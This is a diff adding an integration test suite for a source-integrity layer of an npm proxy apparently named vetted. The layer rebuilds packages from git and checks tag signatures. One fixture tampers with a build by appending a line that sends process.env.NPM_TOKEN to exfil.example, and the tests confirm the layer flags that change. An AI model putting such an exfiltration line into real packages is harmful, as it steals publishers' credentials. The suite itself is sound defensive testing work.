@@ -1,0 +1,482 @@
+/**
+ * The source integrity layer on real git repositories published with the real npm to a real
+ * upstream Verdaccio. `https://github.com/acme/` is mapped to a directory of bare repositories
+ * (`file://`), and in one case to a `git daemon` on loopback; the real github.com is not
+ * reachable here, which the unmapped case relies on. Most cases run the layer directly; the
+ * last drives vetted itself to see the verdict and the 403.
+ */
+import { after, before, describe, it } from 'node:test';
+import { execFileSync } from 'node:child_process';
+import { readFileSync } from 'node:fs';
+import assert from 'node:assert/strict';
+import { mkdir, mkdtemp, rm, symlink, unlink, writeFile } from 'node:fs/promises';
+import { createServer } from 'node:net';
+import type { AddressInfo, Socket } from 'node:net';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { createSourceLayer } from '../../src/verify/layers/source-integrity';
+import type { SourceLayer, SourceResult } from '../../src/verify/layers/source-integrity';
+import type { Finding } from '../../src/types';
+import { bumpVersion, createGitPackage } from '../helpers/fixtures';
+import { createUser, startVerdaccio } from '../helpers/verdaccio';
+import type { RunningVerdaccio } from '../helpers/verdaccio';
+import { startVetted, waitForStatus } from '../helpers/vetted';
+import {
+  git,
+  inputFrom,
+  makeGpgKey,
+  makeSshKey,
+  publishWith,
+  publishWithoutGit,
+  pushToHost,
+  startGitDaemon,
+  tag,
+} from '../helpers/source-repos';
+
+const REPO_ROOT = path.resolve(__dirname, '..', '..', '..');
+const EMAIL = 'vetted-test@example.invalid';
+
+const codes = (r: SourceResult) => r.findings.map((f) => f.code).sort();
+const find = (r: SourceResult, code: string, file?: string): Finding => {
+  const f = r.findings.find(
+    (x) => x.code === code && (file === undefined || x.evidence?.path === file),
+  );
+  assert.ok(f, `no ${code} ${file ?? ''} in ${JSON.stringify(r, null, 1)}`);
+  return f;
+};
+
+describe('the source integrity layer', () => {
+  let root: string;
+  let hostRoot: string;
+  let upstream: RunningVerdaccio;
+  let token: string;
+  let layer: SourceLayer;
+  const dirs: Record<string, string> = {};
+  const run = async (name: string, version: string, l = layer) =>
+    l.run(await inputFrom(upstream.url, name, version));
+
+  before(async () => {
+    root = await mkdtemp(path.join(tmpdir(), 'vetted-source-test-'));
+    hostRoot = path.join(root, 'githost');
+    upstream = await startVerdaccio({ dir: path.join(root, 'upstream') });
+    token = await createUser(upstream.url, 'publisher', 'publisher-password-1');
+    const ssh = await makeSshKey(path.join(root, 'keys'), EMAIL);
+    const other = await makeSshKey(path.join(root, 'other-keys'), EMAIL);
+    const gpg = await makeGpgKey(path.join(root, 'gpg'), EMAIL);
+    // the TypeScript fixture's build dependency, served by the upstream
+    await publishWith(path.join(REPO_ROOT, 'node_modules', 'typescript'), upstream.url, token, [
+      '--ignore-scripts',
+    ]);
+
+    // pure JS: 1.0.0 honest, 1.1.0 with a file the repository never had, 1.2.0 untagged and
+    // without gitHead, 1.3.0 with no source at all
+    const plain = await createGitPackage(path.join(root, 'repos'), {
+      name: 'vt-src-plain',
+      version: '1.0.0',
+      packageJson: { repository: 'github:acme/vt-src-plain' },
+      files: {
+        'index.js': "module.exports = require('./lib/util');\n",
+        'lib/util.js': 'module.exports = (a, b) => a + b;\n',
+        'README.md': '# vt-src-plain\n',
+      },
+    });
+    dirs.plain = plain;
+    await tag(plain, 'v1.0.0');
+    await publishWith(plain, upstream.url, token);
+    await bumpVersion(plain, '1.1.0');
+    await tag(plain, 'v1.1.0');
+    await writeFile(path.join(plain, 'lib', 'payload.js'), "require('child_process');\n");
+    await publishWith(plain, upstream.url, token);
+    await unlink(path.join(plain, 'lib', 'payload.js'));
+    await bumpVersion(plain, '1.2.0');
+    await publishWithoutGit(plain, upstream.url, token);
+    await writeFile(
+      path.join(plain, 'package.json'),
+      JSON.stringify({
+        name: 'vt-src-plain',
+        version: '1.3.0',
+        main: 'index.js',
+        repository: 'github:acme/vt-src-plain',
+      }),
+    );
+    await publishWithoutGit(plain, upstream.url, token);
+    await git(plain, 'checkout', '--', 'package.json');
+    await pushToHost(plain, hostRoot, 'vt-src-plain');
+
+    // TypeScript build (prepare: tsc): 1.0.0 honest, 1.1.0 with one line added to the output
+    const ts = await createGitPackage(path.join(root, 'repos'), {
+      name: 'vt-src-ts',
+      version: '1.0.0',
+      packageJson: {
+        repository: { type: 'git', url: 'git+https://github.com/acme/vt-src-ts.git' },
+        main: 'dist/index.js',
+        types: 'dist/index.d.ts',
+        files: ['dist'],
+        scripts: { prepare: 'tsc' },
+        devDependencies: { typescript: '5.9.3' },
+      },
+      files: {
+        '.gitignore': 'node_modules\ndist\n',
+        'tsconfig.json': JSON.stringify({
+          compilerOptions: {
+            outDir: 'dist',
+            declaration: true,
+            module: 'commonjs',
+            target: 'es2020',
+          },
+          include: ['src'],
+        }),
+        'src/index.ts': 'export function add(a: number, b: number): number {\n  return a + b;\n}\n',
+      },
+    });
+    dirs.ts = ts;
+    await mkdir(path.join(ts, 'node_modules', '.bin'), { recursive: true });
+    await symlink(
+      path.join(REPO_ROOT, 'node_modules', 'typescript'),
+      path.join(ts, 'node_modules', 'typescript'),
+    );
+    await symlink('../typescript/bin/tsc', path.join(ts, 'node_modules', '.bin', 'tsc'));
+    await tag(ts, 'v1.0.0');
+    await publishWith(ts, upstream.url, token);
+    await bumpVersion(ts, '1.1.0');
+    await tag(ts, 'v1.1.0');
+    await git(ts, 'status', '--short');
+    execFileSync(process.execPath, [path.join(ts, 'node_modules', 'typescript', 'bin', 'tsc')], {
+      cwd: ts,
+    });
+    await writeFile(
+      path.join(ts, 'dist', 'index.js'),
+      readFileSync(path.join(ts, 'dist', 'index.js'), 'utf8') +
+        "require('https').get('https://exfil.example/' + process.env.NPM_TOKEN);\n",
+    );
+    await publishWith(ts, upstream.url, token, ['--ignore-scripts']);
+    await pushToHost(ts, hostRoot, 'vt-src-ts');
+
+    // a monorepo: workspace packages/vt-mono-a, tagged name@version, published without gitHead
+    const mono = path.join(root, 'repos', 'vt-mono');
+    await mkdir(path.join(mono, 'packages', 'vt-mono-a'), { recursive: true });
+    await writeFile(
+      path.join(mono, 'package.json'),
+      JSON.stringify({ name: 'vt-mono', private: true, workspaces: ['packages/*'] }, null, 2),
+    );
+    await writeFile(
+      path.join(mono, 'packages', 'vt-mono-a', 'package.json'),
+      JSON.stringify(
+        {
+          name: 'vt-mono-a',
+          version: '1.0.0',
+          main: 'index.js',
+          license: 'MIT',
+          repository: {
+            type: 'git',
+            url: 'https://github.com/acme/vt-mono.git',
+            directory: 'packages/vt-mono-a',
+          },
+        },
+        null,
+        2,
+      ),
+    );
+    await writeFile(path.join(mono, 'packages', 'vt-mono-a', 'index.js'), 'module.exports = 1;\n');
+    await git(mono, 'init', '--quiet', '--initial-branch=main');
+    await git(mono, 'add', '--all');
+    await git(
+      mono,
+      '-c',
+      `user.name=Vetted Test`,
+      '-c',
+      `user.email=${EMAIL}`,
+      'commit',
+      '--quiet',
+      '-m',
+      'a 1.0.0',
+    );
+    await git(
+      mono,
+      '-c',
+      `user.name=Vetted Test`,
+      '-c',
+      `user.email=${EMAIL}`,
+      'tag',
+      '-a',
+      'vt-mono-a@1.0.0',
+      '-m',
+      'a',
+    );
+    await publishWithoutGit(path.join(mono, 'packages', 'vt-mono-a'), upstream.url, token);
+    await pushToHost(mono, hostRoot, 'vt-mono');
+
+    // signed tags: 1.0.0 SSH-signed with the trusted key, 1.1.0 unsigned, 1.2.0 signed with
+    // another key, 1.3.0 GPG-signed with the trusted GPG key
+    const signed = await createGitPackage(path.join(root, 'repos'), {
+      name: 'vt-src-signed',
+      version: '1.0.0',
+      packageJson: { repository: 'https://github.com/acme/vt-src-signed' },
+    });
+    dirs.signed = signed;
+    await tag(signed, 'v1.0.0', { ssh: ssh.key });
+    await publishWith(signed, upstream.url, token);
+    await bumpVersion(signed, '1.1.0');
+    await tag(signed, 'v1.1.0');
+    await publishWith(signed, upstream.url, token);
+    await bumpVersion(signed, '1.2.0');
+    await tag(signed, 'v1.2.0', { ssh: other.key });
+    await publishWith(signed, upstream.url, token);
+    await bumpVersion(signed, '1.3.0');
+    await tag(signed, 'v1.3.0', { gpg: gpg.fingerprint, gnupgHome: gpg.gnupgHome });
+    await publishWith(signed, upstream.url, token);
+    await pushToHost(signed, hostRoot, 'vt-src-signed');
+
+    layer = createSourceLayer({
+      upstream: upstream.url,
+      root: path.join(root, 'sources'),
+      mirrors: [{ from: 'https://github.com/acme/', to: `file://${hostRoot}/acme/` }],
+      trustedKeys: { 'vt-src-signed': [ssh.allowedSigners, gpg.publicKey] },
+    });
+  });
+  after(async () => {
+    await upstream?.stop();
+    if (root) await rm(root, { recursive: true, force: true });
+  });
+
+  describe('when the tarball is what the repository builds', () => {
+    it('passes an honest pure-JS package, located by gitHead, with both integrities', async () => {
+      const result = await run('vt-src-plain', '1.0.0');
+      assert.equal(result.outcome, 'pass', JSON.stringify(result, null, 1));
+      const located = find(result, 'SOURCE_LOCATED_BY');
+      assert.equal(located.evidence?.method, 'gitHead');
+      assert.equal(located.evidence?.tag, 'v1.0.0');
+      assert.equal(
+        result.summary?.commit,
+        await git(dirs.plain as string, 'rev-parse', 'v1.0.0^{commit}'),
+      );
+      assert.match(result.summary?.rebuiltIntegrity ?? '', /^sha512-/);
+      assert.deepEqual(
+        codes(result).filter((c) => c.startsWith('REBUILD_') && c !== 'REBUILD_METADATA_ONLY'),
+        [],
+      );
+    });
+
+    it('passes an honest package whose prepare step compiles TypeScript', async () => {
+      const result = await run('vt-src-ts', '1.0.0');
+      assert.equal(result.outcome, 'pass', JSON.stringify(result, null, 1));
+      assert.ok((result.summary?.files?.same ?? 0) >= 3, JSON.stringify(result.summary));
+      assert.ok(
+        (result.summary?.timings.installMs ?? 0) > 0,
+        'the build dependencies were installed',
+      );
+    });
+
+    it('locates and rebuilds a monorepo workspace by its name@version tag', async () => {
+      const result = await run('vt-mono-a', '1.0.0');
+      assert.equal(result.outcome, 'pass', JSON.stringify(result, null, 1));
+      assert.equal(result.summary?.locatedBy, 'tag');
+      assert.equal(result.summary?.tag, 'vt-mono-a@1.0.0');
+      assert.equal(result.summary?.repository?.directory, 'packages/vt-mono-a');
+    });
+  });
+
+  describe('when the tarball is not what the repository builds', () => {
+    it('fails one line added to a built file, naming the file, its hashes and the line', async () => {
+      const result = await run('vt-src-ts', '1.1.0');
+      assert.equal(result.outcome, 'fail');
+      const differs = find(result, 'REBUILD_FILE_DIFFERS', 'dist/index.js');
+      assert.equal(differs.severity, 'high');
+      assert.equal(differs.evidence?.class, 'build-output');
+      assert.match(String(differs.evidence?.published), /^[0-9a-f]{64}$/);
+      assert.notEqual(differs.evidence?.published, differs.evidence?.rebuilt);
+      assert.match(
+        String(differs.evidence?.diff),
+        /^\+require\('https'\)\.get\('https:\/\/exfil\.example/m,
+      );
+      assert.deepEqual(
+        result.findings
+          .filter((f) => f.code.startsWith('REBUILD_FILE'))
+          .map((f) => f.evidence?.path),
+        ['dist/index.js'],
+      );
+      // 1.0.0 reproduced (the test before), 1.1.0 does not
+      assert.match(find(result, 'REPRODUCIBILITY_REGRESSION').message, /1\.0\.0/);
+    });
+
+    it('fails a file in the tarball that the repository does not have', async () => {
+      const result = await run('vt-src-plain', '1.1.0');
+      assert.equal(result.outcome, 'fail');
+      const extra = find(result, 'REBUILD_FILE_EXTRA', 'lib/payload.js');
+      assert.equal(extra.evidence?.class, 'code');
+      assert.equal(extra.evidence?.rebuilt, undefined);
+      assert.deepEqual(
+        result.findings
+          .filter((f) => f.code.startsWith('REBUILD_FILE'))
+          .map((f) => f.evidence?.path),
+        ['lib/payload.js'],
+      );
+      assert.deepEqual(find(result, 'REPRODUCIBILITY_REGRESSION').evidence?.reproducedBefore, [
+        '1.0.0',
+      ]);
+    });
+
+    it('warns when the tag is missing and the commit is found by package.json version', async () => {
+      const result = await run('vt-src-plain', '1.2.0');
+      assert.equal(result.outcome, 'warn', JSON.stringify(result, null, 1));
+      assert.equal(result.summary?.locatedBy, 'package-json-version');
+      assert.equal(find(result, 'SOURCE_TAG_MISSING').severity, 'medium');
+      assert.equal(result.summary?.commit, await git(dirs.plain as string, 'rev-parse', 'HEAD'));
+    });
+
+    it('fails a version no commit of the repository has', async () => {
+      const result = await run('vt-src-plain', '1.3.0');
+      assert.equal(result.outcome, 'fail', JSON.stringify(result, null, 1));
+      assert.deepEqual(codes(result), ['SOURCE_NOT_FOUND']);
+    });
+  });
+
+  describe('signatures, with keys configured for the package', () => {
+    it('tells a tag signed with the trusted SSH key from an unsigned one and a foreign key', async () => {
+      const good = await run('vt-src-signed', '1.0.0');
+      assert.equal(good.outcome, 'pass', JSON.stringify(good, null, 1));
+      assert.equal(good.summary?.signature?.status, 'signed');
+      assert.match(find(good, 'SOURCE_SIGNED').message, /tag v1\.0\.0/);
+
+      const unsigned = await run('vt-src-signed', '1.1.0');
+      assert.equal(unsigned.summary?.signature?.status, 'unsigned');
+      assert.equal(unsigned.outcome, 'warn');
+      assert.ok(codes(unsigned).includes('SOURCE_UNSIGNED'));
+
+      const foreign = await run('vt-src-signed', '1.2.0');
+      assert.equal(foreign.summary?.signature?.status, 'bad');
+      assert.equal(foreign.outcome, 'fail');
+      assert.ok(codes(foreign).includes('SOURCE_SIGNATURE_BAD'));
+    });
+
+    it('verifies a GPG-signed tag with the configured armored key', async () => {
+      const result = await run('vt-src-signed', '1.3.0');
+      assert.equal(result.summary?.signature?.status, 'signed', JSON.stringify(result, null, 1));
+      assert.equal(result.outcome, 'pass');
+    });
+  });
+
+  describe('reaching repositories', () => {
+    it('clones through a git daemon mirror on loopback', async () => {
+      const daemon = await startGitDaemon(hostRoot);
+      try {
+        const viaDaemon = createSourceLayer({
+          upstream: upstream.url,
+          root: path.join(root, 'sources-daemon'),
+          mirrors: [{ from: 'https://github.com/acme/', to: `${daemon.url}acme/` }],
+        });
+        const result = await run('vt-src-plain', '1.0.0', viaDaemon);
+        assert.equal(result.outcome, 'pass', JSON.stringify(result, null, 1));
+        assert.match(
+          result.summary?.repository?.url ?? '',
+          /^git:\/\/127\.0\.0\.1:\d+\/acme\/vt-src-plain\.git$/,
+        );
+      } finally {
+        await daemon.stop();
+      }
+    });
+
+    it('reuses the clone for later versions of one repository', async () => {
+      const result = await run('vt-src-plain', '1.0.0');
+      assert.equal(result.outcome, 'pass');
+      assert.ok((result.summary?.timings.fetchMs ?? Infinity) < 5000);
+    });
+
+    it('reports no repository as unavailable', async () => {
+      const input = await inputFrom(upstream.url, 'vt-src-plain', '1.0.0');
+      const result = await layer.run({
+        ...input,
+        manifest: { ...input.manifest, repository: undefined },
+      });
+      assert.equal(result.outcome, 'unavailable');
+      assert.equal(result.reason, 'no repository in package.json');
+    });
+
+    it('fails fast on an unmapped unreachable host, then skips it at once', async () => {
+      const direct = createSourceLayer({
+        upstream: upstream.url,
+        root: path.join(root, 'sources-direct'),
+        probeTimeoutMs: 3000,
+      });
+      const input = await inputFrom(upstream.url, 'vt-src-plain', '1.0.0');
+      let started = performance.now();
+      const first = await direct.run(input);
+      const firstMs = performance.now() - started;
+      assert.equal(first.outcome, 'unavailable');
+      assert.match(first.reason ?? '', /github\.com/);
+      assert.ok(firstMs < 15_000, `took ${firstMs} ms`);
+      started = performance.now();
+      const second = await direct.run({ ...input, version: '1.1.0' });
+      assert.ok(performance.now() - started < 1000);
+      assert.match(second.reason ?? '', /skipped until/);
+    });
+  });
+
+  describe('a host that accepts connections and never answers', () => {
+    it('kills the clone at the time limit, then skips the host at once', async () => {
+      const sockets = new Set<Socket>();
+      const server = createServer((socket) => sockets.add(socket));
+      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+      const port = (server.address() as AddressInfo).port;
+      try {
+        const hanging = createSourceLayer({
+          upstream: upstream.url,
+          root: path.join(root, 'sources-hanging'),
+          mirrors: [{ from: 'https://github.com/acme/', to: `http://127.0.0.1:${port}/acme/` }],
+          cloneTimeoutMs: 2000,
+        });
+        const input = await inputFrom(upstream.url, 'vt-src-plain', '1.0.0');
+        let started = performance.now();
+        const first = await hanging.run(input);
+        assert.ok(performance.now() - started < 8000, `took ${performance.now() - started} ms`);
+        assert.equal(first.outcome, 'unavailable');
+        assert.match(first.reason ?? '', /did not finish in 2 s/);
+        started = performance.now();
+        const second = await hanging.run({ ...input, version: '1.1.0' });
+        assert.ok(performance.now() - started < 1000);
+        assert.match(second.reason ?? '', /skipped until/);
+      } finally {
+        for (const socket of sockets) socket.destroy();
+        server.close();
+      }
+    });
+  });
+
+  describe('through vetted', () => {
+    it('holds the tampered build with the file in the 403 and verifies the honest one', async () => {
+      const vetted = await startVetted({
+        upstream: upstream.url,
+        options: {
+          waitForVerdict: 0,
+          sources: {
+            mirrors: [{ from: 'https://github.com/acme/', to: `file://${hostRoot}/acme/` }],
+          },
+        },
+      });
+      try {
+        await fetch(`${vetted.url}/vt-src-ts/-/vt-src-ts-1.0.0.tgz`);
+        await fetch(`${vetted.url}/vt-src-ts/-/vt-src-ts-1.1.0.tgz`);
+        const honest = await waitForStatus(vetted, 'vt-src-ts', '1.0.0', 240_000);
+        assert.equal(honest.status, 'verified', JSON.stringify(honest, null, 1));
+        const source = honest.layers.find((l: { layer: string }) => l.layer === 'source');
+        assert.equal(source.outcome, 'pass');
+        const tampered = await waitForStatus(vetted, 'vt-src-ts', '1.1.0', 240_000);
+        assert.equal(tampered.status, 'held');
+        assert.ok(
+          tampered.reasons.some((r: string) =>
+            /^REBUILD_FILE_DIFFERS: dist\/index\.js differs/.test(r),
+          ),
+          JSON.stringify(tampered.reasons),
+        );
+        const res = await fetch(`${vetted.url}/vt-src-ts/-/vt-src-ts-1.1.0.tgz`);
+        assert.equal(res.status, 403);
+        assert.match(
+          res.headers.get('npm-notice') ?? '',
+          /held: REBUILD_FILE_DIFFERS: dist\/index\.js/,
+        );
+      } finally {
+        await vetted.stop();
+      }
+    });
+  });
+});
